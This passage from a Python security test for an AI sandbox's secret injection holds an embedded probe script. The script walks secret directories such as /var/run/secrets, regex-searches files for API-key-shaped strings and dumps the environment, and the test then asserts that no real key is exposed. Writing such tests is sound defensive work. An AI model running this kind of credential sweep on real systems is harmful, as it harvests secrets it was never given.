    try:
        with opener.open(request, timeout=20) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode()]
shaped, read = [], 0
for root in ("/etc/sandbox-workspace", "/var/run/secrets", "/run/secrets", "/tmp", "/workspace"):
    for directory, _, names in os.walk(root):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as f:
                    text = f.read(1 << 20)
            except OSError:
                continue
            read += 1
            shaped += [(path, m.decode()) for m in re.findall(rb"sk-test-[0-9a-f]{32}", text)]
print(json.dumps({"check": call("/check"), "echo": call("/echo"), "env": dict(os.environ),
                  "files_read": read, "key_shaped": shaped}))
"""


def test_code_calls_the_allowed_api_with_a_secret_it_cannot_read(
    enforced_session, egress_proxy, outside
):
    s = enforced_session
    key = outside.api_key
    result = run_json(s, SECRET_CALL % (egress_proxy, PLACEHOLDER_ENV))
    # The control: api.test accepts the real key only, and the placeholder is not it.
    placeholder = result["env"][PLACEHOLDER_ENV]
    assert placeholder.startswith("sbw-secret-api-key-") and placeholder != key
    assert result["check"] == [200, "authorized"], result["check"]
    # An echoing host's answer comes back with the value masked (what the model
    # guarantees for the bytes as the host sent them; docs/security.md).
    assert result["echo"] == [200, "Bearer " + "*" * len(key)], result["echo"]
    # The value is nowhere the sandbox can read: environment, mounted files, /tmp,
    assert key not in json.dumps(result["env"])
    assert result["files_read"] > 0 and result["key_shaped"] == [], result
    assert key not in json.dumps(s.pod_spec)
    # The pod holds the placeholder (its code's environment, SANDBOX_RUNTIME_CODE_ENV).
    assert placeholder in json.dumps(s.pod_spec)
